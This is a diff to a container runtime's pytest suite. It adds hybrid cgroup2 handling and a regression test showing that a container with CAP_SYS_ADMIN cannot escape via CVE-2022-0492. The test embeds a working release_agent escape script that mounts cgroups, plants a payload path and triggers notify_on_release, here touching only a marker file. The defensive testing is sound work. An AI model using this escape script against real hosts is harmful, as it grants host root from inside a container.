@@ -57,7 +57,7 @@ def state(tmp_path_factory):
 @contextlib.contextmanager
 def own_v1_cgroups():
     """Move the test process into a cgroup of its own in every cgroup-v1
-    hierarchy. minidocker places a container under the cgroup it runs in,
+    hierarchy, and in a hybrid host's cgroup2 tree. minidocker places a container under the cgroup it runs in,
     so every container this suite starts lands below ours, and the checks
     for leftovers look there only: another user's containers on the same
     host are not ours to count. (On cgroup v2 containers go under
@@ -69,7 +69,7 @@ def own_v1_cgroups():
                                md.read_text("/proc/self/cgroup"))
     moved = []
     try:
-        for mount, own in sorted(set(layout.v1.values())):
+        for mount, own in sorted(set(layout.v1.values()) | hybrid_v2(layout)):
             parent = os.path.join(mount, own.strip("/"))
             mine = os.path.join(parent, "mdtest-%d" % os.getpid())
             os.mkdir(mine)
@@ -127,11 +127,17 @@ def assert_nothing_left():
     assert leftover_cgroups() == []
 
 
+def hybrid_v2(layout):
+    """A hybrid host's cgroup2 tree, where containers are placed as on v1."""
+    return {(layout.v2_mount, layout.v2_own)} if layout.v1 and layout.v2_mount else set()
+
+
 def leftover_cgroups():
     """Container cgroups still present where minidocker puts them."""
     layout = md.detect_cgroups(md.read_text("/proc/self/mountinfo"),
                                md.read_text("/proc/self/cgroup"))
-    places = [os.path.join(mount, own.strip("/")) for mount, own in layout.v1.values()]
+    places = [os.path.join(mount, own.strip("/"))
+              for mount, own in set(layout.v1.values()) | hybrid_v2(layout)]
     if layout.v2_mount:
         places.append(os.path.join(layout.v2_mount, "mini-docker"))
     found = []
@@ -1110,12 +1116,15 @@ def test_hybrid_layout_and_placement():
         (1, "/sys/fs/cgroup/memory", "/sys/fs/cgroup/memory/job/7/minidocker-ID", {"memory"}),
         (1, "/sys/fs/cgroup/pids", "/sys/fs/cgroup/pids/user/minidocker-ID", {"pids"}),
         (1, "/sys/fs/cgroup/systemd", "/sys/fs/cgroup/systemd/x/minidocker-ID",
-         {"name=systemd"})]
+         {"name=systemd"}),
+        # the controller-less cgroup2 tree too, under our own cgroup in it
+        (2, "/sys/fs/cgroup/unified", "/sys/fs/cgroup/unified/x/minidocker-ID", set())]
     with pytest.raises(md.MiniDockerError, match="--cpuset-cpus needs the cpuset cgroup "
                                                  "controller, which this host has neither"):
         md.plan_cgroups({"cpuset_cpus": "0"}, layout, "ID")
     parented = md.plan_cgroups({}, layout, "ID", parent="/ci")
     assert parented[1][2] == "/sys/fs/cgroup/memory/ci/minidocker-ID"
+    assert parented[-1][2] == "/sys/fs/cgroup/unified/ci/minidocker-ID"
 
 
 def test_device_cgroup_placement_v1_v2_and_none():
@@ -1584,6 +1593,80 @@ def test_standard_devices_still_open(rootfs):
 def test_a_device_that_cannot_be_made_is_one_line(rootfs):
     bad(["run", "--rm", "--device", "/dev/zero:/dev/null", rootfs, "true"],
         "--device /dev/null: mknod: File exists")
+
+
+# ---------------------------------------------------------------------------
+# cgroup release_agent, root: CVE-2022-0492 as it is really done
+# ---------------------------------------------------------------------------
+
+# Inside a container with CAP_SYS_ADMIN: mount each cgroup hierarchy; where
+# a release_agent file is found, write a payload of the container's (by its
+# host path, the overlay's upperdir) into it, set notify_on_release on a new
+# child cgroup and empty it: the kernel would run the payload as host root.
+RELEASE_AGENT_ATTACK = r"""
+upper=$(sed -n 's/.*[ ,]upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n 1)
+printf '#!/bin/sh\ntouch %s\n' > /payload && chmod 755 /payload
+attack() {
+    [ -e $1/release_agent ] && echo "$upper/payload" > $1/release_agent && echo "$2: agent set"
+    mkdir $1/attack && echo 1 > $1/attack/notify_on_release &&
+        sh -c "echo \$\$ > $1/attack/cgroup.procs"
+}
+for options in %s; do
+    dir=/tmp/$options
+    mkdir -p $dir
+    mount -t cgroup -o $options cgroup $dir 2>/dev/null || { echo "$options: refused"; continue; }
+    echo "$options: mounted"
+    [ -z "$(find $dir -name release_agent)" ] || echo "$options: has a release_agent"
+    [ -z "$(find $dir -mindepth 1 -type d)" ] || echo "$options: sees cgroups not its own"
+    attack $dir $options
+done
+mkdir /tmp/v2 && mount -t cgroup2 none /tmp/v2 && echo "cgroup2: mounted"
+[ -z "$(find /tmp/v2 -mindepth 1 -type d)" ] || echo "cgroup2: sees cgroups not its own"
+sleep 1
+for dir in /tmp/*/attack; do [ ! -d $dir ] || rmdir $dir; done
+"""
+
+
+@root
+def test_release_agent_is_out_of_reach_with_sys_admin(rootfs, tmp_path):
+    layout = md.detect_cgroups(md.read_text("/proc/self/mountinfo"),
+                               md.read_text("/proc/self/cgroup"))
+    hierarchies = {}
+    for name, (mount, _) in layout.v1.items():
+        hierarchies.setdefault(mount, []).append(name)
+    options = sorted(",".join(sorted(names)).replace("name=", "none,name=")
+                     for names in hierarchies.values())
+    # a new hierarchy would have its own root; controllers unbound on pure v2
+    fresh = ["none,name=minidocker-new"] + ([] if layout.v1 else ["freezer", "devices", "memory"])
+    marker = tmp_path / "escaped"
+    agents = {mount: md.read_text(mount + "/release_agent") for mount in hierarchies}
+    # minidocker runs where its caller is, not in the suite's own cgroups
+    # (own_v1_cgroups): in the cgroup above, the hierarchy's root on most hosts.
+    homes = [os.path.dirname(os.path.join(mount, own.strip("/")))
+             for mount, own in set(layout.v1.values()) | hybrid_v2(layout)]
+
+    def go_home():
+        for home in homes:
+            md.write_cgroup_file(home, "cgroup.procs", os.getpid())
+
+    script = RELEASE_AGENT_ATTACK % (marker, " ".join(options + fresh))
+    try:
+        result = subprocess.run(MINIDOCKER + ["run", "--rm", "--network=none", "--cap-add",
+                                              "SYS_ADMIN", rootfs, "sh", "-c", script],
+                                preexec_fn=go_home, stdin=subprocess.DEVNULL,
+                                capture_output=True, text=True, timeout=60)
+        time.sleep(1)
+        assert not marker.exists(), "the payload ran on the host"
+        expected = ["%s: mounted" % o for o in options] + ["%s: refused" % o for o in fresh]
+        assert result.stdout.splitlines() == expected + ["cgroup2: mounted"], result.stdout
+        assert not [home for home in homes
+                    if [n for n in os.listdir(home) if n.startswith("minidocker-")]]
+    finally:
+        for mount, agent in agents.items():  # what the old code let the attack change
+            if md.read_text(mount + "/release_agent") != agent:
+                md.write_cgroup_file(mount, "release_agent", agent.strip() or "\n")
+            if os.path.isdir(mount + "/attack"):
+                os.rmdir(mount + "/attack")
 
 
 # ---------------------------------------------------------------------------
